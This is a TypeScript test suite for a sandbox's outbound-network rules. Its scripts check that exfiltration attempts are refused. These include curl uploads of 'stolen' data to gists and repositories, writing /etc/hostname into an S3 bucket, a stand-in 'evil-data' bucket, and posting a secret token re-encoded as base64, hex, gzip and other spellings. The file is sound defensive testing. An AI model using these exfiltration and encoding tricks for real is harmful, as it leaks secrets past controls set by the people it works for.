// What may leave at all leaves only as the rules say: to the repository and the bucket that are meant, as often as the budget
// says, over the protocols that are looked into, and without the cage's secrets in any spelling.
import { rmSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { secretSet } from '../../src/index.ts';
import { createWorld, startOrigin, type Origin } from '../integration/egress-rig.ts';
import { startTestCage, type TestCage } from '../support/cage.ts';
import { escapeTests, type EscapeCase } from '../support/escape-case.ts';

const VALUE = ['tok', 'f00dcafe'.repeat(4)].join('_');
const BUCKET = 'acme-data.s3.amazonaws.com';
const HOSTS = ['api.test', 'read.test', 'few.test', 'github.com', BUCKET];

let cage: TestCage;
let closed: TestCage;
let origins: readonly Origin[];
let directory: string;
beforeAll(async () => {
  const world = await createWorld();
  origins = await Promise.all(
    HOSTS.map((name) =>
      startOrigin(world, name, (request, response) => {
        request.resume().on('end', () => response.end(`${request.method} ${request.url} arrived`));
      }),
    ),
  );
  directory = mkdtempSync(join(tmpdir(), 'ironcage-world-'));
  const caFile = join(directory, 'ca.pem');
  writeFileSync(caFile, world.caPem);
  const routes = HOSTS.map((host, index) => `${host}=127.0.0.1:${origins[index]?.port ?? 0},ca=${caFile}`);
  cage = await startTestCage('exfiltration', {
    prepare: async (_project, context) => {
      await secretSet(context, { name: 'SERVICE_TOKEN', value: VALUE, hosts: ['bound.test'] });
    },
    options: {
      allow: ['api.test', 'GET read.test', 'few.test rpd=3', 'github:acme/tool', 's3:acme-data'],
      routes,
      secrets: ['SERVICE_TOKEN'],
    },
  });
  closed = await startTestCage('no-rules', { options: { routes } });
});
afterAll(async () => {
  await cage?.remove();
  await closed?.remove();
  await Promise.all(origins.map((origin) => origin.close()));
  rmSync(directory, { recursive: true, force: true });
});

const curl = (...args: readonly string[]): string => `curl -sS -m 20 -g -w '\\n%{http_code}' ${args.join(' ')} 2>&1`;
const ARRIVES = { on: 'inside', script: curl('https://api.test/here'), shows: /GET \/here arrived\n200$/ } as const;
const refusedBy = (rule: string): RegExp => new RegExp(`"rule":"${rule}"[^]*\\n4\\d\\d$`);
const UPGRADE = ['--http1.1', '-H', "'Connection: Upgrade'"];
const SOCKET = ['-H', "'Sec-WebSocket-Version: 13'", '-H', "'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='"];

/** Commands that spell what they read in another way. */
const SPELLINGS: readonly (readonly [spelling: string, command: string])[] = [
  ['plain', 'cat'],
  ['base64', 'base64 -w0'],
  ['base64 behind another byte', '(printf x; cat) | base64 -w0'],
  ['base32', 'base32 -w0'],
  ['hex', "od -An -v -tx1 | tr -d ' \\n'"],
  ['base64 twice', 'base64 -w0 | base64 -w0'],
  ['gzip in base64', 'gzip | base64 -w0'],
  ['UTF-16', 'iconv -t UTF-16LE'],
  ['reversed', 'rev'],
];

escapeTests(
  () => cage,
  [
    {
      id: 'ESC-26a',
      attempt: 'a WebSocket is refused where the rule is about methods',
      script: curl(...UPGRADE, '-H', "'Upgrade: websocket'", ...SOCKET, 'https://read.test/socket'),
      fails: /"rule":"<[a-z-]+>"[^]*\n4\d\d$/,
      control: { on: 'inside', script: curl('https://read.test/here'), shows: /GET \/here arrived\n200$/ },
    },
    {
      id: 'ESC-26b',
      attempt: 'an upgrade to a protocol that nobody looks into is none',
      script: curl(...UPGRADE, '-H', "'Upgrade: tunnel'", 'https://api.test/tunnel'),
      fails: /^(?!.*101)[^]*\n(200|4\d\d)$/,
      control: ARRIVES,
    },
    ...(
      [
        [
          'ESC-35a',
          'another owner’s repository',
          'https://github.com/other/tool.git/git-upload-pack',
          '<default-deny>',
        ],
        ['ESC-35b', 'a push to the repository', 'https://github.com/acme/tool.git/git-receive-pack', '<default-deny>'],
        ['ESC-35c', 'a gist', 'https://api.github.com/gists', '<default-deny>'],
      ] as const
    ).map(([id, what, url, rule]): EscapeCase => ({
      id,
      attempt: `${what} takes nothing where one repository may be fetched`,
      script: curl('-d', 'stolen', url),
      fails: refusedBy(rule),
      control: {
        on: 'inside',
        script: curl("'https://github.com/acme/tool.git/info/refs?service=git-upload-pack'"),
        shows: /arrived\n200$/,
      },
    })),
    ...(
      [
        ['ESC-37a', 'a request that somebody else signed', `'https://${BUCKET}/a?X-Amz-Signature=00ff'`],
        ['ESC-37b', 'another bucket', 'https://evil-data.s3.amazonaws.com/a'],
        ['ESC-37c', 'a write into the bucket', `-T /etc/hostname https://${BUCKET}/a`],
      ] as const
    ).map(([id, what, target]): EscapeCase => ({
      id,
      attempt: `${what} is refused where one bucket may be read`,
      script: curl(target),
      fails: /"rule":"<[a-z-]+>"[^]*\n403$/,
      control: { on: 'inside', script: curl(`https://${BUCKET}/a`), shows: /GET \/a arrived\n200$/ },
    })),
    {
      id: 'ESC-39',
      attempt: 'many small requests end with the budget of their rule',
      script: `for _ in 1 2 3 4 5 6 7; do ${curl('https://few.test/piece')}; echo; done | tail -n 3`,
      fails: refusedBy('<budget>'),
      control: { on: 'inside', script: curl('https://few.test/piece'), shows: /arrived\n200$/ },
    },
    ...SPELLINGS.map(([spelling, command], index): EscapeCase => ({
      id: `ESC-40${'abcdefghi'[index] ?? ''}`,
      attempt: `the value of a secret leaves in no body as ${spelling}`,
      script: `printf %s '${VALUE}' | ${command} > /tmp/spelled; ${curl('--data-binary', '@/tmp/spelled', 'https://api.test/up')}`,
      fails: refusedBy('<secret-leak>'),
      control: {
        on: 'inside',
        script: `printf %s 'tok_harmless_harmless_harmless' | ${command} > /tmp/spelled; ${curl('--data-binary', '@/tmp/spelled', 'https://api.test/up')}`,
        shows: /POST \/up arrived\n200$/,
      },
    })),
  ],
);

test('ESC-16: no rules are no permission', async () => {
  expect((await cage.sh(ARRIVES.script)).stdout).toMatch(ARRIVES.shows);
  for (const host of HOSTS) {
    expect((await closed.sh(curl(`https://${host}/here`))).stdout).toMatch(refusedBy('<default-deny>'));
  }
});
